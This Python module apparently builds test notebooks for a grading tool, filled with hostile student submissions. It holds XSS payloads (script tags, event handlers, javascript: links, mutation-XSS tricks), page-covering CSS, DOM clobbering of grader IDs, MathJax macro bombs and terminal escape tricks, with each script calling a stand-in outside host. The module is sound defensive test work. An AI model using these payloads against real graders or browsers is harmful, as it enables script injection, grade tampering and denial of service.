"""What a student may hand in so that it runs, loads, covers or confuses something in a grader's browser.

Every script pushes its name into ``window.ran`` and asks a host elsewhere for a picture.
"""

from __future__ import annotations

import base64
import functools
import struct
import zlib
from itertools import pairwise

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

ELSEWHERE = "https://elsewhere.example/"
HONEST = [
    r"$\begin{pmatrix}1 & 2\\3 & 4\end{pmatrix}$ and $\begin{bmatrix}a \\ b\end{bmatrix}$",
    r"$$\begin{aligned} a &= b \\[2pt] c &= \text{softmax}(d) \end{aligned}$$",
    r"$\operatorname{softmax}\left(\frac{QK^\top}{\sqrt{d_k}}\right)V$",
    r"$\mathbb{R}^{N\times D}$, $\sum_{i=1}^N \exp(x_i)$, $\stackrel{!}{=}$, $a \pmod b$",
    r"\begin{equation}E = mc^2 \tag{7} \end{equation}",
    r"$\begin{cases} a & b\\ c & d\end{cases}$ and $$\lim_{n \to \infty} \frac{1}{n} = 0\!.$$",
    r"\begin{align*}\hat{y} &= \sigma(Wx + b)\\ &\in \mathcal{Y}\end{align*}",
]
"""Formulas that must look the same whatever stands in other cells."""


def run(name: str) -> str:
    return f"(window.ran=window.ran||[]).push('{name}');new Image().src='{ELSEWHERE}{name}'"


@functools.cache
def png(width: int, height: int) -> str:
    """A grey picture, base64; large ones are small files."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(1 + (width + 7) // 8) * height, 9)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{run("svg")}"><script>{run("svg-script")}</script></svg>"""
COVER = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:white"

HTML = {
    "script": f"<script>{run('script')}</script>",
    "script in a table": f"<table><tr><td><script>{run('table')}</script></td></tr></table>",
    "handler": f'<img src=x onerror="{run("handler")}">',
    "handler without quotes": f"<img/src=x/onerror={run('unquoted').replace(' ', '/**/')}>",
    "svg": SVG,
    "math": f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={run('math')!r}>'>",
    "unfinished tag": f'<img src=x onerror="{run("unfinished")}" ',
    "unfinished comment": f'<!--><img src=x onerror="{run("comment")}">-->',
    "textarea": f'<textarea></title><img title="</textarea><img src=x onerror={run("textarea")}>">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={run("noscript")}>"></noscript>',
    "iframe": f'<iframe srcdoc="<script>parent.{run("iframe")}</script>"></iframe>',
    "iframe with a page": f'<iframe src="{ELSEWHERE}frame"></iframe>',
    "link to a script": f'<a id="click-me" href="javascript:{run("link")}">solution</a>',
    "link with a hidden script": f'<a href="&#1;java&Tab;script:{run("tab")}">solution</a>',
    "link to a page of its own": "<a href=\"data:text/html,<script>alert('data')</script>\">x</a>",
    "link into formgrader": '<a href="/formgrader/manage_students/%22;alert(1)//">x</a>',
    "link to this machine": (
        '<a href="http://127.0.0.1:8888/formgrader">x</a> <a href="http://localhost:8888/api">y</a>'
    ),
    "style sheet": (
        f"<style>body{{display:none}} @import url({ELSEWHERE}css); *{{background:url({ELSEWHERE}all)}}</style>"
    ),
    "style of a page": f'<div style="{COVER}">nothing to grade</div>',
    "style with a picture": f'<div style="background:url({ELSEWHERE}style)">x</div>',
    "class of formgrader": '<div class="navbar navbar-fixed-top modal-backdrop" style="height:100%">full credit</div>',
    "picture elsewhere": f'<img src="{ELSEWHERE}pixel.png" srcset="{ELSEWHERE}set 2x" width=99999 height=99999>',
    "huge picture": f'<img src="data:image/png;base64,{png(12_000, 12_000)}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}refresh">',
    "base": f'<base href="{ELSEWHERE}base/"><base target="_top">',
    "form": (
        f'<form action="{ELSEWHERE}form">'
        f'<input name=points autofocus onfocus="{run("focus")}"><button>Save</button></form>'
    ),
    "clobbering": (
        '<img id="submission_id"><form id="test_self_attention" name="formgrader"><input id="why_equivariant"></form>'
    ),
    "link to the opener": f'<a href="{ELSEWHERE}opener" target="_blank" rel="opener">x</a>',
    "object": (
        f'<object data="{ELSEWHERE}object"></object>'
        f'<embed src="{ELSEWHERE}embed"><link rel="stylesheet" href="{ELSEWHERE}link">'
    ),
    "video": (
        f'<video src="{ELSEWHERE}video" autoplay onloadstart="{run("video")}">'
        f'</video><audio src="{ELSEWHERE}audio" autoplay>'
    ),
    "details": f'<details open ontoggle="{run("toggle")}">x</details>',
    "data attribute": '<a data-toggle="modal" data-target="body" data-link="x">x</a>',
    "end of the page": f"</div></div></div></body></html><script>{run('end')}</script>",
    "depth": "<div>" * 5000,
    "amplification": "".join(f"<b a={i}>" for i in range(2000)) + "<p></p>" * 2000,
    "commands of mathematics": r"$\def\frac#1#2{0} \style{position:fixed}{x} \href{javascript:alert(1)}{y}$",
}
"""HTML by what it tries; each also stands in a cell of Markdown."""

MARKDOWN = {
    "link to a script": f"[a](javascript:{run('md-link').replace(' ', '%20').replace('(', '%28').replace(')', '%29')})",
    "link with entities": "[a](&#106;avascript:alert(1)) <javascript:alert(1)>",
    "reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "prefix that nbconvert takes away": "[a](files/javascript:alert(1)) <a href='files/javascript:alert(1)'>b</a>",
    "picture elsewhere": f"![p]({ELSEWHERE}md.png)",
    "title that ends": f"""[a](https://example.org '"onmouseover="{run("md-title")}')""",
    "diagram that is none": f'```mermaid\n<img src=x onerror="{run("mermaid")}">\n```',
    "picture that was lost": "![p](attachment:nope.png)",
    "heading with the name of a score": "# why_equivariant\n\n# test_self_attention\n\n# statusmessage",
    "formula with HTML": f'$x<img src=x onerror="{run("formula")}">$ and $$\n<script>{run("display")}</script>\n$$',
    "script around a formula": f"<script>{run('around')}//$x$</script>",
    "commands": r"$\require{html}\href{javascript:alert(1)}{x}\class{navbar-fixed-top}{y}\cssId{why_equivariant}{z}$",
    "definitions": r"$$\def\frac#1#2{0}\let\sum\prod\gdef\alpha{\beta}\renewcommand{\pi}{3}\newcommand{\sqrt}{4}$$",
    "far away": (
        r"$\raise999em{x}\kern-99em{y}\rule{999em}{999em}\hspace{-50em}$"
        r" $\begin{array}{c}a\\[-999em]b\end{array}$"
    ),
    "tokens": r"$\mmlToken{mi}[href=javascript:alert(1)]{x}\mmlToken{mglyph}[src=https://elsewhere.example/g.png]{}$"
    r" $\unicode[url(https://elsewhere.example/font)]{x41}\htmlData{toggle=modal}{x}\bbox[999em,red]{y}$",
    "out of its place": r"$\llap{" + "x" * 200 + r"}\rlap{y}\smash{\begin{array}{c}" + r"a\\" * 50 + r"\end{array}}$"
    r" $\skew{9999}{\hat}{x}\sqrt{\uproot{99}x}\begin{array}{c}a\newline[999em]b\end{array}$",
    "names without a backslash": r"$\newcommand{frac}{0}\DeclareMathOperator*{\exp}{0}\def%" + "\n" + r"\frac{0}$",
    "what macros are made of": r"$\def\bbFont{0}\def\mathop{0}\newenvironment{pmatrix}{0}{0}\def\mathstrut{0}$",
    "deep formula": "$" + r"\frac{" * 300 + "a" + "}{b}" * 300 + "$",
    "deep formula across lines": "$x" + r"\frac{<br>" * 300 + "$",
    "deep brackets": "$" + r"\left(" * 300 + "x" + r"\right)" * 300 + "$",
    "long formula": "$" + r"\qquad" * 3000 + "x$ $" + "x" * 20_000 + "$",
    "steps to the left": "$" + r"\!" * 3000 + "x$",
    "macro bomb": r"$\def\mine{\mine\mine}\mine$ $"
    + "".join(rf"\def\my{one}{{{f'{chr(92)}my{two}' * 10}}}" for one, two in pairwise("abcdefghij"))
    + r"\mya$",
    "braces": r"$\frac{a}{b$ and $$ }}}} $$ \( { \[ \begin{pmatrix} a",
    "begun and never ended": r"$$ \begin{align} a &=",
    "ended and never begun": r"b \end{align} $$",
    "depth": "> " * 3000 + "x",
    "brackets": "[" * 20_000,
}
"""Markdown by what it tries."""

BUNDLES = {
    "javascript": ({"application/javascript": run("javascript")}, {}),
    "size that is an attribute": (
        {"image/png": png(9, 9)},
        {"image/png": {"width": f"1 onload={run('width').replace(' ', '/**/')} x=", "height": "1 onclick=x"}},
    ),
    "isolated": ({"text/html": f"<script>{run('isolated')}</script>"}, {"text/html": {"isolated": True}}),
    "file name": ({"image/png": png(9, 9)}, {"filenames": {"image/png": f"{ELSEWHERE}name.png"}}),
    "svg": ({"image/svg+xml": SVG, "text/plain": "a drawing"}, {}),
    "entities": (
        {"image/svg+xml": '<!DOCTYPE svg [<!ENTITY a "a">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>'},
        {},
    ),
    "huge": ({"image/png": png(12_000, 12_000)}, {}),
    "no picture": ({"image/png": '"><script>alert(1)</script>'}, {}),
    "jpeg that is a png": ({"image/jpeg": png(9, 9)}, {}),
    "markdown": ({"text/markdown": f"<img src=x onerror=\"{run('markdown')}\">"}, {}),
    "deep latex": ({"text/latex": "$" + r"\frac{" * 300 + "a" + "}{b}" * 300 + "$"}, {}),
    "long latex": ({"text/latex": "$" + r"\qquad" * 12_000 + "$"}, {}),
    "formulas in html": ({"text/html": r"$$\def\frac#1#2{0}\kern-999em x$$ \[\raise999em{x}\]"}, {}),
    "latex": ({"text/latex": r"$\style{position:fixed}{x}\href{javascript:alert(1)}{y}$"}, {}),
    "widget": ({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2}}, {}),
    "plotly": ({"application/vnd.plotly.v1+json": {"data": []}, "text/html": f"<script>{run('plotly')}</script>"}, {}),
    "vega": ({"application/vnd.vegalite.v5+json": {"$schema": f"{ELSEWHERE}schema"}}, {}),
}  # fmt: skip
"""Data and metadata of outputs by what they try."""

COLOUR = "\x1b[31mx\x1b[0m"
PRINTED = {
    "html": "<script>alert(1)</script>",
    "link in a terminal": "\x1b]8;;https://elsewhere.example/\x1b\\3 of 3\x1b]8;;\x1b\\",
    "title of a terminal": "\x1b]0;mine\x07 \x9d0;mine\x07",
    "other direction": "\u202e)dessap( 1 fo 1",
    "control characters": "a\x00b\x07c\x7f",
    "colours without end": COLOUR * 20_000,
}
"""Printed text by what it tries."""


def notebook_cells() -> list[NotebookNode]:
    """Cells with all of it: texts, and code that prints and displays."""
    bundles = [({"text/html": text, "text/plain": name}, {}) for name, text in HTML.items()] + [*BUNDLES.values()]
    show = "from IPython.display import display\n"
    cells = [new_code_cell(f"{show}display({data!r}, raw=True, metadata={about!r})") for data, about in bundles]
    for cell, (data, about) in zip(cells, bundles, strict=True):
        cell.outputs = [new_output("display_data", data=data, metadata=about)]
    for text in PRINTED.values():
        code = f"print({text!r})" if len(text) < 1000 else f"print({COLOUR!r} * 20_000)"
        cells.append(new_code_cell(code, outputs=[new_output("stream", text=text)]))
    cells += [new_markdown_cell(text) for text in [*HTML.values(), *MARKDOWN.values()]]
    cells += [new_raw_cell(text) for text in HTML.values()]
    cells.append(new_code_cell("1", metadata={"transient": {"remove_source": True}, "tags": ['"><script>']}))
    return cells
